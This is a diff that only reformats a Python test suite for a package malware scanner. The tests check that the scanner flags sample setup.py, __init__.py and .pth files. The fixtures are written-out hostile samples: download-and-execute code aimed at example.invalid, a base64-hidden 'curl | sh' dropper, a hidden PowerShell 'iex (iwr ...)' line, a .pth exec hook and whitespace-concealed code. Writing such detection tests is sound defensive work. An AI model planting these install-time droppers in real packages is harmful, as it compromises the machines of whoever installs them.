@@ -22,12 +22,15 @@ def rules(result) -> dict[str, str]:
 
 
 def test_setup_download_and_execute() -> None:
-    setup = PLAIN_SETUP + """
+    setup = (
+        PLAIN_SETUP
+        + """
 import urllib.request, subprocess
 data = urllib.request.urlopen("https://example.invalid/tool").read()
 open("/tmp/tool", "wb").write(data)
 subprocess.Popen(["/tmp/tool"])
 """
+    )
     result = scan({"setup.py": setup})
     assert result.verdict == "malicious"
     assert rules(result)["download-and-execute"] == "high"
@@ -50,19 +53,25 @@ setup(name="demo", cmdclass={"install": Post})
 
 
 def test_setup_running_git_is_not_malicious() -> None:
-    setup = PLAIN_SETUP + """
+    setup = (
+        PLAIN_SETUP
+        + """
 import subprocess
 rev = subprocess.check_output(["git", "rev-parse", "HEAD"])
 """
+    )
     assert scan({"setup.py": setup}).verdict == "clean"
 
 
 def test_version_exec_from_local_file_is_clean() -> None:
-    setup = PLAIN_SETUP + """
+    setup = (
+        PLAIN_SETUP
+        + """
 about = {}
 with open("demo/__about__.py") as fp:
     exec(fp.read(), about)
 """
+    )
     assert scan({"setup.py": setup}).verdict == "clean"
 
 
@@ -75,8 +84,7 @@ def test_exec_of_base64_zlib_chain() -> None:
 
 def test_decoded_payload_is_analysed_statically() -> None:
     payload = b"import os\nos.system('curl https://example.invalid/x.sh | sh')\n"
-    code = ("import base64\nexec(base64.b64decode('" + base64.b64encode(payload).decode()
-            + "'))\n")
+    code = "import base64\nexec(base64.b64decode('" + base64.b64encode(payload).decode() + "'))\n"
     result = scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code})
     found = rules(result)
     assert found["shell-dropper"] == "high"
@@ -84,7 +92,9 @@ def test_decoded_payload_is_analysed_statically() -> None:
 
 
 def test_code_hidden_in_a_string_written_and_started() -> None:
-    setup = PLAIN_SETUP + '''
+    setup = (
+        PLAIN_SETUP
+        + '''
 from tempfile import NamedTemporaryFile
 from os import system
 tmp = NamedTemporaryFile(delete=False)
@@ -92,6 +102,7 @@ tmp.write(b"""from urllib.request import urlopen;exec(urlopen('https://example.i
 tmp.close()
 system("start pythonw " + tmp.name)
 '''
+    )
     result = scan({"setup.py": setup})
     assert rules(result)["exec-downloaded-code"] == "high"
 
@@ -129,13 +140,17 @@ def cookies():
 
 def test_pth_file_with_exec() -> None:
     pth = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"
-    result = scan_bytes(wheel({"demo/__init__.py": "", "demo-hook.pth": pth}), "demo-1.0-py3-none-any.whl")
+    result = scan_bytes(
+        wheel({"demo/__init__.py": "", "demo-hook.pth": pth}), "demo-1.0-py3-none-any.whl"
+    )
     assert rules(result)["pth-code-execution"] == "high"
 
 
 def test_pth_with_plain_import_is_low() -> None:
     pth = "import demo_hook\n"
-    result = scan_bytes(wheel({"demo/__init__.py": "", "demo.pth": pth}), "demo-1.0-py3-none-any.whl")
+    result = scan_bytes(
+        wheel({"demo/__init__.py": "", "demo.pth": pth}), "demo-1.0-py3-none-any.whl"
+    )
     assert rules(result)["pth-import"] == "low"
     assert result.verdict == "clean"
 
@@ -149,22 +164,31 @@ def test_obfuscated_identifiers_with_exec() -> None:
 
 def test_whitespace_hidden_code() -> None:
     code = "VALUE = 1" + " " * 250 + ";import os\n"
-    assert rules(scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}))[
-        "code-hidden-by-whitespace"] == "high"
+    assert (
+        rules(scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}))[
+            "code-hidden-by-whitespace"
+        ]
+        == "high"
+    )
 
 
 def test_base64_executable_in_python() -> None:
     code = "BLOB = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n"
-    assert rules(scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}))[
-        "embedded-executable"] == "high"
+    assert (
+        rules(scan({"setup.py": PLAIN_SETUP, "demo/__init__.py": code}))["embedded-executable"]
+        == "high"
+    )
 
 
 def test_powershell_dropper_in_setup() -> None:
-    setup = PLAIN_SETUP + """
+    setup = (
+        PLAIN_SETUP
+        + """
 import subprocess
 subprocess.Popen("powershell -WindowStyle Hidden -c iex (iwr https://example.invalid/a.ps1)",
                  shell=True)
 """
+    )
     assert rules(scan({"setup.py": setup}))["shell-dropper"] == "high"
 
 
